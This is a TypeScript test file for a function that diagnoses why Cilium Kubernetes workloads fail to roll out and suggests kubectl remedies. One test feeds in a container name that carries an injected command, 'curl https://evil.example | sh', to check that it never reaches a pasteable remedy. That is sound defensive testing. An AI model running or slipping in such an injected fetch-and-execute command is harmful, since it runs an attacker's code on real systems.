import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { rolloutCause } from "../../../functions/core/health/rollout-cause.ts";
import type { Json } from "../../../functions/core/json.ts";
import type { KubeObject } from "../../../functions/core/kube-object.ts";
import { upNode } from "../../builders/healthy-view.ts";

const workload = (kind: string, name: string, status: Json = {}): KubeObject => ({
  apiVersion: "apps/v1",
  kind,
  metadata: { name, namespace: "kube-system" },
  status,
});
const agents = workload("DaemonSet", "cilium");

const pod = (name: string, node: string, status: Json): KubeObject => ({
  apiVersion: "v1",
  kind: "Pod",
  metadata: { name, namespace: "kube-system" },
  spec: {
    ...(node === "" ? {} : { nodeName: node }),
    initContainers: [{ name: "mount-cgroup" }],
    containers: [{ name: "cilium-agent" }],
  },
  status,
});
const ready: Json = { phase: "Running", conditions: [{ type: "Ready", status: "True" }] };

const warning = (name: string, reason: string, message: string, lastTimestamp = ""): KubeObject => ({
  apiVersion: "v1",
  kind: "Event",
  metadata: { name: `${name}.${reason}`, namespace: "kube-system" },
  involvedObject: { name },
  reason,
  message,
  lastTimestamp,
});

const unschedulable = (message: string): Json => ({
  phase: "Pending",
  conditions: [{ type: "PodScheduled", status: "False", reason: "Unschedulable", message }],
});

const nodes = ["a", "b", "c"].map((name) => upNode(name));
const causeOf = (pods: readonly KubeObject[], warnings: readonly KubeObject[] = [], of = agents) =>
  rolloutCause({ workload: of, pods, warnings, nodes });

describe("why a workload does not roll out", () => {
  it("names the taint that keeps a pod off, and the setting that tolerates it", () => {
    const message =
      "0/3 nodes are available: 3 node(s) had untolerated taint {dedicated: gpu}. preemption: none";
    const operator = workload("Deployment", "cilium-operator");
    const { trouble, missing } = causeOf([pod("op-1", "", unschedulable(message))], [], operator);
    expect(trouble?.cause).toBe(`Unschedulable: ${message}`);
    expect(trouble?.remedy).toContain(
      '{"key":"dedicated","operator":"Exists"} to the setting extraTolerations',
    );
    expect(trouble?.remedy).toContain("kubectl taint nodes --all dedicated-");
    expect(missing).toEqual(["op-1"]);
  });

  it.each([
    ["3 node(s) didn't match Pod's node affinity/selector", "nodeSelectors"],
    ["3 Insufficient memory", "Allocated resources"],
    ["1 node(s) didn't have free ports for the requested pod ports", "spec.nodeName=NODE"],
    ["something new", "kubectl -n kube-system describe pod op-1"],
  ])("has a remedy for: %s", (message, remedy) => {
    expect(causeOf([pod("op-1", "", unschedulable(message))]).trouble?.remedy).toContain(remedy);
  });

  it.each([
    "node.cilium.io/agent-not-ready",
    "node.kubernetes.io/not-ready",
    "ignore-taint.cluster-autoscaler.kubernetes.io/cilium-agent-not-ready",
  ])("has nobody tolerate or take off %s, which goes by itself", (key) => {
    const message = `0/3 nodes are available: 3 node(s) had untolerated taint {${key}: }.`;
    const remedy = causeOf([pod("relay-1", "", unschedulable(message))]).trouble?.remedy ?? "";
    expect(remedy).not.toMatch(/extraTolerations|kubectl taint/);
    expect(remedy).toContain("kubectl get nodes");
  });

  it("reads the node of a DaemonSet's pod that no node has taken yet from its affinity", () => {
    const terms = [{ matchFields: [{ key: "metadata.name", operator: "In", values: ["b"] }] }];
    const affinity = {
      nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: terms } },
    };
    const pending = { ...pod("p", "", unschedulable("3 Insufficient cpu")), spec: { affinity } };
    const others = [pod("q", "a", ready), pod("r", "c", ready)];
    expect(causeOf([pending, ...others]).missing).toEqual(["b"]);
  });

  it("names the nodes of a DaemonSet that have no pod at all", () => {
    expect(causeOf([pod("q", "a", ready)]).missing).toEqual(["b", "c"]);
    expect(causeOf([], [], workload("Deployment", "hubble-relay")).missing).toEqual([]);
  });

  it("prefers what most pods suffer from", () => {
    const ended = (message: string): Json => ({
      phase: "Running",
      containerStatuses: [
        { name: "x", state: { terminated: { exitCode: 2, reason: "Error", message } }, restartCount: 1 },
      ],
    });
    const pods = [pod("1", "a", ended("once")), pod("2", "b", ended("twice")), pod("3", "c", ended("twice"))];
    expect(causeOf(pods).trouble?.cause).toContain("twice");
  });

  it("takes an init container that ended before the containers that wait for it", () => {
    const status: Json = {
      phase: "Pending",
      initContainerStatuses: [
        {
          name: "mount-cgroup",
          state: { waiting: { reason: "CrashLoopBackOff" } },
          lastState: { terminated: { exitCode: 1, reason: "Error", message: "nsenter: not found" } },
        },
      ],
      containerStatuses: [{ name: "cilium-agent", state: { waiting: { reason: "PodInitializing" } } }],
    };
    expect(causeOf([pod("1", "a", status)]).trouble).toEqual({
      cause: "container mount-cgroup ended with Error (exit code 1): nsenter: not found",
      remedy: "kubectl -n kube-system logs 1 -c mount-cgroup --previous",
    });
  });

  it("knows an agent that its memory limit ended, an eviction, and a volume that does not come", () => {
    const killed: Json = {
      phase: "Running",
      containerStatuses: [
        {
          name: "cilium-agent",
          state: { waiting: { reason: "CrashLoopBackOff" } },
          lastState: { terminated: { exitCode: 137, reason: "OOMKilled" } },
        },
      ],
    };
    const outOfMemory = causeOf([pod("1", "a", killed)]).trouble;
    expect(outOfMemory?.cause).toBe("container cilium-agent ended with OOMKilled (exit code 137)");
    expect(outOfMemory?.remedy).toContain("kubectl -n kube-system describe pod 1");
    const evicted: Json = {
      phase: "Failed",
      reason: "Evicted",
      message: "The node was low on resource: memory.",
    };
    expect(causeOf([pod("1", "a", evicted)]).trouble?.cause).toBe(
      "Evicted: The node was low on resource: memory.",
    );
    const mount = warning("spire-server-0", "FailedMount", "timed out waiting for the condition");
    const server = workload("StatefulSet", "spire-server");
    const creating: Json = { phase: "Pending" };
    expect(causeOf([pod("spire-server-0", "a", creating)], [mount], server).trouble?.cause).toBe(
      "FailedMount: timed out waiting for the condition",
    );
  });

  const agent = (state: Json, end?: Json): Json => ({
    phase: "Running",
    conditions: [{ type: "Ready", status: "False", message: "containers with unready status" }],
    containerStatuses: [
      {
        name: "cilium-agent",
        ready: false,
        state,
        ...(end === undefined ? {} : { lastState: { terminated: end } }),
      },
    ],
  });

  it("remembers what memory ended while the container runs again, and forgets it once that is ready", () => {
    const runs = agent({ running: {} }, { exitCode: 137, reason: "OOMKilled" });
    expect(causeOf([pod("1", "a", runs)]).trouble?.cause).toContain("OOMKilled");
    const elsewhere: Json = {
      phase: "Running",
      containerStatuses: [{ name: "x", ready: true, state: { running: {} } }],
    };
    expect(causeOf([pod("1", "a", elsewhere)]).trouble).toBeUndefined();
  });

  const script = "while sleep 2; do\n  cilium-dbg endpoint list\ndone\n".repeat(20);
  const hookMessage =
    `Exec lifecycle hook ([bash -c ${script}]) for Container "cilium-agent" in Pod "1" failed - ` +
    `error: command 'bash -c ${script}' exited with 127: bash: not found, message: ""`;

  it("says why a hook after the start failed, without the script that it is", () => {
    const waits = { waiting: { reason: "PostStartHookError", message: hookMessage } };
    expect(causeOf([pod("1", "a", agent(waits, { exitCode: 137, reason: "Error" }))]).trouble).toEqual({
      cause: 'PostStartHookError of container cilium-agent: exited with 127: bash: not found, message: ""',
      remedy:
        "See whether the image has bash and the node lets programs start: kubectl -n kube-system describe pod 1",
    });
    const refused =
      'failed - error: rpc error: exec: "bash": executable file not found in $PATH, message: ""';
    const unknown = {
      waiting: { reason: "PostStartHookError", message: `Exec lifecycle hook ([x]) ${refused}` },
    };
    expect(causeOf([pod("1", "a", agent(unknown))]).trouble?.cause).toContain("executable file not found");
  });

  it("remembers the hook between two starts, when only the event tells", () => {
    const waits = { waiting: { reason: "CrashLoopBackOff", message: "back-off 40s" } };
    const status = agent(waits, { exitCode: 137, reason: "Error" });
    const event = warning("1", "FailedPostStartHook", "PostStartHook failed");
    expect(causeOf([pod("1", "a", status)], [event]).trouble?.cause).toBe(
      "PostStartHookError of container cilium-agent",
    );
    expect(causeOf([pod("1", "a", status)]).trouble?.cause).toContain("ended with Error (exit code 137)");
  });

  it("puts no word of a kubelet into a line to paste", () => {
    const name = "x; curl https://evil.example | sh #";
    const status = {
      phase: "Running",
      containerStatuses: [{ name, state: { terminated: { exitCode: 1, message: "m" } } }],
    };
    expect(causeOf([pod("1", "a", status)]).trouble?.remedy).toBe("kubectl -n kube-system describe pod 1");
  });

  it("says how an agent ended that ended during its hook, rather than that the hook did", () => {
    const waits = { waiting: { reason: "PostStartHookError", message: hookMessage } };
    const end = { exitCode: 1, reason: "Error", message: "starting\nfatal: unable to mount bpffs\n" };
    expect(causeOf([pod("1", "a", agent(waits, end))]).trouble).toEqual({
      cause: "container cilium-agent ended with Error (exit code 1): fatal: unable to mount bpffs",
      remedy: "kubectl -n kube-system logs 1 -c cilium-agent --previous",
    });
  });

  it("says the youngest words of what refuses the pods, of a ReplicaSet as of a DaemonSet", () => {
    const warnings = [
      warning("cilium", "FailedCreate", "denied by old", "2026-11-29T09:00:00Z"),
      warning("cilium", "FailedCreate", "denied by new", "2026-11-29T10:00:00Z"),
    ];
    expect(causeOf([], warnings).trouble?.cause).toBe("FailedCreate: denied by new");
    const conditions = [{ type: "ReplicaFailure", status: "True", message: "exceeded quota: pods" }];
    const relay = workload("Deployment", "hubble-relay", { conditions });
    expect(causeOf([], [], relay).trouble?.cause).toBe("FailedCreate: exceeded quota: pods");
  });

  it("says that a node is silent, rather than what its pod said last", () => {
    const conditions = [{ type: "Ready", status: "Unknown", reason: "NodeStatusUnknown" }];
    const silent = [...nodes.slice(1), { ...upNode("a"), status: { conditions } }];
    const unready = pod("1", "a", { phase: "Running", conditions: [{ type: "Ready", status: "False" }] });
    expect(rolloutCause({ workload: agents, pods: [unready], warnings: [], nodes: silent }).trouble).toEqual({
      cause: "node a is NotReady",
      remedy:
        "Start its kubelet again or take the node out, the roll-out stops at it: kubectl describe node a",
    });
  });

  it("names a silent node that has no pod of the new generation, with the words of its condition", () => {
    const words = "Kubelet stopped posting node status.";
    const conditions = [{ type: "Ready", status: "Unknown", message: words }];
    const silent = [...nodes.slice(0, 2), { ...upNode("c"), status: { conditions } }];
    const pods = [pod("1", "a", ready), pod("2", "b", ready)];
    const { trouble, missing } = rolloutCause({ workload: agents, pods, warnings: [], nodes: silent });
    expect(trouble?.cause).toBe(`node c is NotReady: ${words}`);
    expect(missing).toEqual(["c"]);
  });

  it("has nothing to say of pods that only take their time", () => {
    const creating: Json = {
      phase: "Pending",
      containerStatuses: [{ name: "cilium-agent", state: { waiting: { reason: "ContainerCreating" } } }],
    };
    expect(causeOf([pod("1", "a", creating)]).trouble).toBeUndefined();
  });

  it("reads any status without a throw, in at most 400 characters", () => {
    fc.assert(
      fc.property(
        fc.jsonValue({ maxDepth: 5 }),
        fc.jsonValue(),
        fc.string({ maxLength: 2_000 }),
        (status, spec, text) => {
          const odd = { ...pod("1", "a", status as Json), spec: spec as Json } as KubeObject;
          const warnings = [warning("cilium", "FailedCreate", text), warning("1", "Unhealthy", text)];
          const { trouble } = causeOf([odd, pod("2", "b", unschedulable(text))], warnings);
          expect((trouble?.cause ?? "").length).toBeLessThanOrEqual(400);
        },
      ),
    );
  });
});
